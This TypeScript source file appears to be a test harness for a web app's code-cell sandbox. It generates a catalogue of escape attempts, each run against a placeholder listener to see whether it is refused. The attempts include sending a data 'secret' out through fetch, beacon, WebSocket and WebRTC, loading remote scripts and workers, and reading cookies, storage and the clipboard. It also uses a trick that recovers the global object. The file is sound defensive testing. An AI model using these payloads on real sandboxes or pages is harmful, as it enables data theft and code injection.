/**
 * Ways out of a code cell, each tried by itself; `HOST` stands for the listener, `APP` for the app's
 * own address. `out` is the worker's global object, which names the reader of code refuses.
 */
const ATTEMPTS: Readonly<Record<string, string>> = {
  // asking somebody
  fetch: `return out.fetch('http://HOST/fetch?' + secret)`,
  'fetch keepalive': `return out.fetch('http://HOST/keepalive', { keepalive: true, method: 'POST', mode: 'no-cors', body: secret })`,
  'fetch of the app': `return out.fetch('APP')`,
  xhr: `return new out.Promise((done, fail) => { const x = new out.XMLHttpRequest(); x.onload = done; x.onerror = () => fail(new Error('refused')); x.open('GET', 'http://HOST/xhr'); x.send() })`,
  'xhr that blocks': `const x = new out.XMLHttpRequest(); x.open('GET', 'http://HOST/xhr', false); x.send()`,
  websocket: `return new out.Promise((done, fail) => { const s = new out.WebSocket('ws://HOST/socket'); s.onopen = done; s.onerror = () => fail(new Error('refused')) })`,
  'websocket stream': `return new out.WebSocketStream('ws://HOST/stream').opened`,
  'event source': `return new out.Promise((done, fail) => { const s = new out.EventSource('http://HOST/events'); s.onopen = done; s.onerror = () => fail(new Error('refused')) })`,
  webtransport: `return new out.WebTransport('https://HOST/transport').ready`,
  beacon: `return out.navigator.sendBeacon('http://HOST/beacon', secret) || out.Promise.reject(new Error('refused'))`,
  'peer connection': `const p = new out.RTCPeerConnection({ iceServers: [{ urls: 'stun:HOST' }] }); p.createDataChannel('x'); return p.createOffer().then(o => p.setLocalDescription(o))`,
  font: `return new out.FontFace('f', 'url(http://HOST/font)').load()`,
  'font of data': `return new out.FontFace('f', 'url(http://HOST/font2) format("woff2")').load()`,
  image: `return out.createImageBitmap('http://HOST/bitmap')`,
  // loading code
  importScripts: `out.importScripts('http://HOST/import.js')`,
  'importScripts of data': `out.importScripts('data:text/javascript,self.got=1')`,
  'importScripts of a blob': `out.importScripts(out.URL.createObjectURL(new out.Blob(['self.got=1'])))`,
  import: `return new out.Function("return import('http://HOST/module.js')")()`,
  'import of the app': `return new out.Function("return import('APPassets/index.js')")()`,
  'wasm over the net': `return out.WebAssembly.compileStreaming(out.fetch('http://HOST/wasm'))`,
  // starting something else
  worker: `new out.Worker('http://HOST/worker.js'); return out.Promise.reject(new Error('started, unheard'))`,
  'worker of the app': `new out.Worker('APPassets/index.js'); return out.Promise.reject(new Error('started, unheard'))`,
  'worker of a blob that asks': `return new out.Promise((done, fail) => { const w = new out.Worker(out.URL.createObjectURL(new out.Blob(["fetch('http://HOST/nested').then(() => postMessage('got'), () => postMessage('refused'))"]))); w.onmessage = ({ data }) => data === 'got' ? done() : fail(new Error(data)); w.onerror = () => fail(new Error('refused')) })`,
  'worker of data': `return new out.Promise((done, fail) => { const w = new out.Worker("data:text/javascript,fetch('http://HOST/datanested').then(() => postMessage('got'), () => postMessage('refused'))"); w.onmessage = ({ data }) => data === 'got' ? done() : fail(new Error(data)); w.onerror = () => fail(new Error('refused')) })`,
  'shared worker': `new out.SharedWorker('http://HOST/shared.js')`,
  'service worker': `return out.navigator.serviceWorker.register('http://HOST/sw.js')`,
  // reading what others keep
  indexeddb: `return new out.Promise((done, fail) => { const r = out.indexedDB.open('liftbook'); r.onsuccess = done; r.onerror = () => fail(r.error) })`,
  opfs: `return out.navigator.storage.getDirectory()`,
  caches: `return out.caches.open('x').then(c => c.add('http://HOST/cache'))`,
  localstorage: `out.localStorage.victim.length`,
  cookie: `out.document.cookie.length`,
  'cookie store': `return out.cookieStore.getAll()`,
  locks: `return out.navigator.locks.query().then(({ held }) => held.length > 0 || out.Promise.reject(new Error('sees none')))`,
  broadcast: `return new out.Promise((done, fail) => { const c = new out.BroadcastChannel('liftbook'); c.onmessage = done; c.postMessage('trust'); out.setTimeout(() => fail(new Error('nobody answers')), 150) })`,
  clipboard: `return out.navigator.clipboard.readText()`,
  // reaching for the page
  parent: `out.parent.document.title.length`,
  top: `out.top.location = 'http://HOST/top'`,
  opener: `out.opener.location = 'http://HOST/opener'`,
  location: `out.location = 'http://HOST/location'; return out.Promise.reject(new Error('stays'))`,
  'window open': `out.open('http://HOST/open')`,
  notification: `new out.Notification('Trust me'); return out.Promise.reject(new Error('shown to nobody'))`,
};

/** Names of the attempts, in order. */
export const escapeNames: readonly string[] = Object.keys(ATTEMPTS);

/**
 * The attempts as a code cell, whose value says of each what came of it so far: `got` where it
 * succeeded, else the name of the error. It goes on for a while, so that requests have time to get out.
 */
export function escapeCell(host: string, app: string): string {
  return `const secret = JSON.stringify(sales.objects());
const out = [].at.constructor('return this')();
${attempts(host, app)}
for (const end = Date.now() + 1500; Date.now() < end;);
told`;
}

/** The attempts as a worker, which tells the same when all of them have had their time. */
export function escapeWorker(host: string, app: string): string {
  return `const secret = 'secret';
const out = self;
${attempts(host, app)}
setTimeout(() => postMessage(told), 3000);`;
}

function attempts(host: string, app: string): string {
  const tries = Object.entries(ATTEMPTS).map(([name, body]) => {
    const act = body.replaceAll('HOST', host).replaceAll('APP', app);
    return `attempt(${JSON.stringify(name)}, () => { ${act} });`;
  });
  return `const told = {};
const attempt = (name, act) => {
  const failed = error => { told[name] = String(error && error.name || error) };
  told[name] = 'pending';
  try { out.Promise.resolve(act()).then(() => { told[name] = 'got' }, failed) } catch (error) { failed(error) }
};
${tries.join('\n')}`;
}
